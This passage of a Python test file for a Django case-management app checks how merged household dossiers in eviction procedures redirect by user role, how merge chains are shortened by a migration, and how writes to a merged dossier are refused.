        [("echeance_dans", "0.00000010")],  # never "1E-7", as Decimal would write it
    )
    assert chemins == [
        f"{export}?echeance_dans=40.5",
        f"{export}?echeance_dans=3649.9999999999999999999999999999999",
        f"{export}?echeance_dans=1E-999999",
        f"{export}?echeance_dans=0",
        f"{export}?echeance_dans=3650",
        f"{export}?echeance_dans=0.0000001",
    ]


@pytest.mark.parametrize("acteur", ACTEURS)
def test_dossier_fusionne_redirige_seulement_qui_voit_le_dossier_garde(monde, acteur):
    """The merged dossier's address leads to the kept one for whoever may see it; anyone
    else gets what the kept dossier's address gives them, never its number."""
    from dossiers.services.menages import fusionner

    garde = menage_avec_procedure(monde.departement, nom="Lefèvre")
    doublon = menage_avec_procedure(monde.departement, nom="Lefevre")
    fusionner(garde, doublon, par=monde.secretariat)
    utilisateur = monde.utilisateur(acteur)
    client = client_de(utilisateur) if utilisateur else Client()
    vers_garde = client.get(reverse("dossiers:menage", args=[garde.numero]))
    vers_doublon = client.get(reverse("dossiers:menage", args=[doublon.numero]))
    if acteur == "secretariat":
        assert vers_garde.status_code == 200
    if acteur == "secretariat_autre_departement":
        assert vers_garde.status_code == 404
    if vers_garde.status_code == 200:
        assert vers_doublon.status_code == 302
        assert vers_doublon.url == reverse("dossiers:menage", args=[garde.numero])
    else:
        assert vers_doublon.status_code == vers_garde.status_code
        assert garde.numero not in vers_doublon.get("Location", "")
        assert garde.numero not in vers_doublon.content.decode()


def test_une_fusion_en_chaine_mene_au_dossier_garde_en_un_saut(monde, agent):
    """A merged into B, then B into C: A's page leads straight to C, a form posted from A's
    stale page is refused naming C with the input kept (B holds no procedure any more: it
    answered 404), and A's history records the move."""
    from dossiers.services.menages import fusionner

    a, b, c = (menage_avec_procedure(monde.departement, nom=n) for n in ("Aa", "Bb", "Cc"))
    procedure_de_a = a.procedures.get()
    fusionner(b, a, par=None)  # another author: the row checked below is the new one
    versions = a.history.count()
    fusionner(c, b, par=monde.secretariat)
    a.refresh_from_db()
    assert a.fusionne_dans_id == c.pk
    assert a.history.count() == versions + 1
    derniere = a.history.first()
    assert (derniere.fusionne_dans_id, derniere.history_user) == (c.pk, monde.secretariat)
    reponse = agent.get(reverse("dossiers:menage", args=[a.numero]))
    assert reponse.status_code == 302
    assert reponse.url == reverse("dossiers:menage", args=[c.numero])
    prefixe = f"acte-{procedure_de_a.pk}"
    url = reverse("dossiers:ajouter_acte", args=[a.numero, procedure_de_a.pk])
    acte = {f"{prefixe}-type": "cdp", f"{prefixe}-date": IL_Y_A(3).isoformat()}
    html = agent.post(url, acte, headers={"HX-Request": "true"}).content.decode()
    assert f"fusionné dans le dossier {c.numero}" in html and IL_Y_A(3).isoformat() in html
    assert not procedure_de_a.actes.exists()


def test_la_migration_raccourcit_les_fusions_en_chaine(monde):
    """Chains left by earlier merges (A → B → C, D → A) all point to C after the migration,
    each moved dossier with a history row saying so (as a merge writes one); run again, or
    on an empty table, it changes nothing."""
    import importlib

    from django.apps import apps
    from django.db import connection

    migration = importlib.import_module("dossiers.migrations.0022_fusions_en_un_saut")

    class Editeur:
        pass

    Editeur.connection = connection
    assert not Menage.objects.exists()
    migration.raccourcir(apps, Editeur)  # an empty table
    c = MenageFactory(departement=monde.departement)
    b, a, d = (
        MenageFactory(departement=monde.departement, statut=StatutMenage.FUSIONNE, fusionne_dans=m)
        for m in (c, c, c)
    )
    Menage.objects.filter(pk=a.pk).update(fusionne_dans=b)
    Menage.objects.filter(pk=d.pk).update(fusionne_dans=a)
    libre = MenageFactory(departement=monde.departement)
    historique = Menage.history.model.objects
    avant = historique.count()
    migration.raccourcir(apps, Editeur)
    assert dict(
        Menage.objects.filter(pk__in=[a.pk, b.pk, c.pk, d.pk, libre.pk]).values_list(
            "pk", "fusionne_dans_id"
        )
    ) == {a.pk: c.pk, b.pk: c.pk, d.pk: c.pk, c.pk: None, libre.pk: None}
    assert sorted(
        historique.filter(history_type="~").values_list("id", "fusionne_dans_id", "statut")
    ) == sorted([(a.pk, c.pk, StatutMenage.FUSIONNE), (d.pk, c.pk, StatutMenage.FUSIONNE)])
    assert historique.count() == avant + 2
    migration.raccourcir(apps, Editeur)  # nothing left to shorten
    assert historique.count() == avant + 2


def test_page_du_dossier_formulaires_vierges_a_chaque_procedure(monde, agent):
    """Two procedures: each act and debt form carries its own procedure's ids, `for=`
    links and names (the blank forms' kept HTML, prefix put back), the note form its own."""
    from dossiers.models import MenageProcedure
    from tests.procedure.factories import procedure_avec_actes

    menage = menage_avec_procedure(monde.departement)
    MenageProcedure.objects.create(
        menage=menage, procedure=procedure_avec_actes(commune=menage.commune)
    )
    page = agent.get(reverse("dossiers:menage", args=[menage.numero])).content.decode()
    assert "__prefix__" not in page
    for pk in menage.procedures.values_list("pk", flat=True):
        assert f'id="id_acte-{pk}-type"' in page and f"change from:#id_acte-{pk}-type" in page
        assert f'for="id_acte-{pk}-date"' in page and f'name="acte-{pk}-date"' in page
        assert f'for="id_dette-{pk}-montant"' in page and f'name="dette-{pk}-montant"' in page
    assert 'name="note-texte"' in page and 'for="id_note-texte"' in page


def _procedure_neuve(menage):
    return {
        "bailleur_nom": "SCI du dossier fusionné",
        "bailleur_nature": NatureBailleur.PERSONNE_MORALE,
        "locataires": "M. Martin",
        "adresse": "1 rue Neuve",
        "commune": menage.commune,
        "parc": Parc.PRIVE,
        "motif": Motif.IMPAYES,
    }


ECRITURES = {
    "modifier_menage": lambda s, m, p, a, par: s.modifier_menage(
        m, par=par, version_lue=m.version, champs={"adresse": "1 rue Neuve"}
    ),
    "lier_procedure": lambda s, m, p, a, par: s.lier_procedure(
        m, ProcedureFactory(commune=m.commune), par=par
    ),
    "creer_procedure_du_menage": lambda s, m, p, a, par: s.creer_procedure_du_menage(
        m, par=par, **_procedure_neuve(m)
    ),
    "modifier_procedure": lambda s, m, p, a, par: s.modifier_procedure(
        m, p, par=par, version_lue=p.version, numero_rg="26/00001"
    ),
    "ajouter_acte": lambda s, m, p, a, par: s.ajouter_acte(
        m, p, par=par, type=TypeActe.ASSIGNATION, date=IL_Y_A(5)
    ),
    "corriger_acte": lambda s, m, p, a, par: s.corriger_acte(
        m, a, par=par, version_lue=a.version, date=IL_Y_A(20)
    ),
    "supprimer_acte": lambda s, m, p, a, par: s.supprimer_acte(m, a, par=par),
    "ecrire_note": lambda s, m, p, a, par: s.ecrire_note(m, texte="Appel du bailleur", par=par),
    "enregistrer_dette": lambda s, m, p, a, par: s.enregistrer_dette(
        m, p, par=par, date=IL_Y_A(5), montant=Decimal("900")
    ),
}


@pytest.mark.parametrize("ecriture", ECRITURES)
def test_un_dossier_fusionne_refuse_toute_ecriture(monde, ecriture):
    """The views redirect a merged dossier to the kept one; a page loaded before the merge
    still posts to the merged one: the services refuse it, nothing is written."""
    from dossiers.services import menages as services

    garde = menage_avec_procedure(monde.departement, nom="Lefèvre")
    doublon = menage_avec_procedure(
        monde.departement, nom="Lefevre", actes=[(TypeActe.CDP, IL_Y_A(30))]
    )
    procedure = doublon.procedures.get()
    acte = procedure.actes.get()
    services.fusionner(garde, doublon, par=monde.secretariat)

    def etat():
        # Every row a refused write could leave, and the fields it could change.
        return (
            EvenementJournal.objects.count(),
            ActeProcedure.objects.values_list("pk", "date", "version").order_by("pk")[::1],
            EtatDette.objects.count(),
            # Those of the two dossiers (`lier_procedure` creates one to link, before the call).
            Procedure.objects.filter(pk__lte=procedure.pk)
            .values_list("pk", "numero_rg", "version")
            .order_by("pk")[::1],
            Procedure.objects.filter(bailleur_nom="SCI du dossier fusionné").count(),
            MenageProcedure.objects.values_list("menage_id", "procedure_id").order_by("pk")[::1],
            Menage.objects.values_list("pk", "adresse", "version", "statut").order_by("pk")[::1],
        )

    avant = etat()
    with pytest.raises(ValidationError) as refus:
        ECRITURES[ecriture](services, doublon, procedure, acte, monde.secretariat)
    assert refus.value.messages == [
        f"Ce dossier a été fusionné dans le dossier {garde.numero} : "
        "rien ne s’y enregistre plus, ouvrez celui-ci."
    ]
    assert etat() == avant
    assert Menage.objects.get(pk=doublon.pk).statut == StatutMenage.FUSIONNE
